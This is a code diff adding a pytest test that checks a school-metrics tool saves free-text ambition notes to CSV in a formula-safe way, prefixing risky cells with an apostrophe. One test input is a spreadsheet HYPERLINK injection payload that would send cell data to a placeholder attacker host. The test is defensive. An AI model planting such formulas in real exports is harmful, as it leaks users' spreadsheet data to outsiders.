@@ -195,3 +195,33 @@ def test_a_quote_left_open_with_line_breaks_elsewhere_is_refused_at_its_line(con
     assert not refused.loaded
     assert "open.csv, regel 7:" in refused.messages[0] and "aanhalingsteken" in refused.messages[0]
     assert table_checksums(con) == before
+
+
+# ---------------------------------------------------------------- 11. ambition notes are saved formula-safe
+
+
+def test_a_formula_typed_in_an_ambition_note_is_neutralised_on_save(tmp_path):
+    import csv
+
+    import pandas as pd
+
+    from sto_metrics.metrics import ambitions
+
+    base = {"metric": "inflow_vmbo", "scope": "regio", "split": "", "baseline_year": "2020-2021", "baseline_value": "",
+            "target_year": "2027-2028", "target_value": "30"}
+    notes = ['=HYPERLINK("https://evil.example/?d="&A1;"klik")', "+31 6 1234", "@SUM(A1:A9)", "-2+3", "\t=1+1",
+             "Afspraak regio: +5% in 2028", "'=al veilig"]
+    targets = [(metric, split) for metric in ("inflow_vmbo", "inflow_havo_vwo", "progression_vmbo") for split in ("", "geslacht=V", "geslacht=M")]
+    frame = pd.DataFrame([{**base, "metric": metric, "split": split, "note": note} for (metric, split), note in zip(targets, notes, strict=False)],
+                         columns=ambitions.FILE_COLUMNS)
+    path = tmp_path / "ambities.csv"
+    assert ambitions.save_targets(frame, set(), path) == []
+    with open(path, encoding="utf-8", newline="") as stored:
+        saved = [row["note"] for row in csv.DictReader(stored)]
+    # What Excel opens: no cell starts like a formula, the text itself is kept after one apostrophe.
+    assert saved == ["'" + notes[0], "'+31 6 1234", "'@SUM(A1:A9)", "'-2+3", "'=1+1", "Afspraak regio: +5% in 2028", "'=al veilig"]
+    assert [a.note for a in ambitions.validate(ambitions.read_targets(path), set())[0]] == saved
+    # Saving what was read back changes nothing (no second apostrophe).
+    assert ambitions.save_targets(ambitions.read_targets(path), set(), path) == []
+    with open(path, encoding="utf-8", newline="") as stored:
+        assert [row["note"] for row in csv.DictReader(stored)] == saved
